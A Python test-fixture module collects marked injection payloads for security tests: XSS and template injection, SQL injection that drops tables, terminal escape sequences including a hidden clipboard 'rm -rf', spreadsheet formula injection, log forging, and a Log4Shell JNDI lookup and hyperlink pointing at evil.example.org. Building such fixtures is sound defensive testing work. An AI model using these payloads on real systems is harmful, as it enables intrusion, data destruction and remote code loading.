"""Hostile text, by the place where it would do harm: page, query, terminal, spreadsheet, metrics, log.

Job: hold each payload once, for every test that shows words of others.
Must not: say what has to become of them; the tests do.
"""

import re
from typing import Final

MARK: Final = "Planted7"
"""Stands in every payload, so that a test finds its way back to it."""

PAGE: Final = (
    f"<script>self.{MARK}=1</script>",
    f"<img src=x onerror=self.{MARK}=1>",
    f'"><svg/onload=self.{MARK}=1>',
    f"</title></textarea></script><script>self.{MARK}=1</script>",
    f"javascript:self.{MARK}=1//",
    f"{{{{constructor.constructor('self.{MARK}=1')()}}}}",
    f"<iframe srcdoc='<script>top.{MARK}=1</script>'>",
    f"<a href=javascript:self.{MARK}=1>{MARK}</a>",
    f"&lt;script&gt;self.{MARK}=1&lt;/script&gt;",
    f"<!--{MARK}--><style>*{{display:none}}</style>",
)
QUERY: Final = (
    f"{MARK}'; DROP TABLE record; --",
    f"' OR '1'='1' -- {MARK}",
    f'{MARK}"; DELETE FROM series; --',  # noqa: S608  # an attack, never run
    f"' UNION SELECT value FROM meta -- {MARK}",  # noqa: S608  # an attack, never run
    f"{MARK}%' ESCAPE '%",
    f":product {MARK} ?1 $week @x",
)
TERMINAL: Final = (
    f"\x1b[2J\x1b[H{MARK}",
    f"\x1b]0;{MARK}\x07",
    f"\x1b]8;;http://evil.example.org\x1b\\{MARK}\x1b]8;;\x1b\\",
    f"\x1b]52;c;cm0gLXJmIH4=\x07{MARK}",
    f'\x1bP$q"p\x1b\\{MARK}',
    f"\x9b31m{MARK}",
    f"\x9d0;{MARK}\x9c",
    f"{MARK}\rroot# rm -rf",
    f"{MARK}\x08\x08\x08\x7f",
    f"[bold red]{MARK}[/bold red]",
    f":skull: {MARK}",
    f"{MARK}\x00\x0e\x0f",
)
SPREADSHEET: Final = (
    f"=1+1+{MARK}",
    f"+1+{MARK}",
    f"-1-{MARK}",
    f"@SUM({MARK})",
    f"=cmd|'/C calc'!{MARK}",
    f'=HYPERLINK("http://evil.example.org/?{MARK}")',
    f"\t=1+{MARK}",
    f"\r=1+{MARK}",
    f"\n=1+{MARK}",
    f"  =1+{MARK}",
    f"\uff1d1+{MARK}",
    f"\uff0b1+{MARK}",
    f"\uff0d1-{MARK}",
    f"\uff20SUM({MARK})",
    f"{MARK};=1+1",
    f"{MARK}; =1+1",
    f"{MARK}\n=1+1",
    f"{MARK}\t=1+1",
    f'{MARK}","=1+1',
    f"{MARK}';=1+1",
    f'";=1+{MARK}',
)
METRICS: Final = (
    f'{MARK}"}} 1\nsidecar_records_total{{kind="{MARK}',
    f"{MARK}\\",
    f"# TYPE {MARK} counter",
    f'x",admin="{MARK}',
)
LOG: Final = (
    f"{MARK}\n2026-01-01 00:00:00,000 INFO sidecar.daemon: forged {MARK}",
    f"{MARK}\r\n2026-01-01 00:00:00,000 ERROR root: forged {MARK}",
    f"%s %d %(asctime)s {{0}} {MARK}",
    f"{MARK}\u2028forged\u2029forged\x85forged",
    f"${{jndi:ldap://evil.example.org/{MARK}}}",
)
DIRECTIONS: Final = (
    f"\u202e{MARK}\u202c",
    f"\u2066{MARK}\u2069\u200f\u061c",
    f"{MARK}\u200b\u200d\ufeff\u00ad",
    f"{MARK}\U000e0041\U000e0042",
    f"{MARK}" + "\u0301" * 50,
)
ALL: Final = (*PAGE, *QUERY, *TERMINAL, *SPREADSHEET, *METRICS, *LOG, *DIRECTIONS)
IDENTIFIERS: Final = (
    "-1-2",
    "+1+2",
    "-cmd",
    "--help",
    "+A1",
    "..",
    ".",
    "-",
    "+",
    "_",
    "0x41",
    "1e999",
    "NaN",
    "null",
)
"""Hostile words that fit the alphabet of identifiers, and so are taken."""
CONTROLS: Final = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]|\r(?!\n)")
"""What no words of a person hold; they are refused where words are taken."""
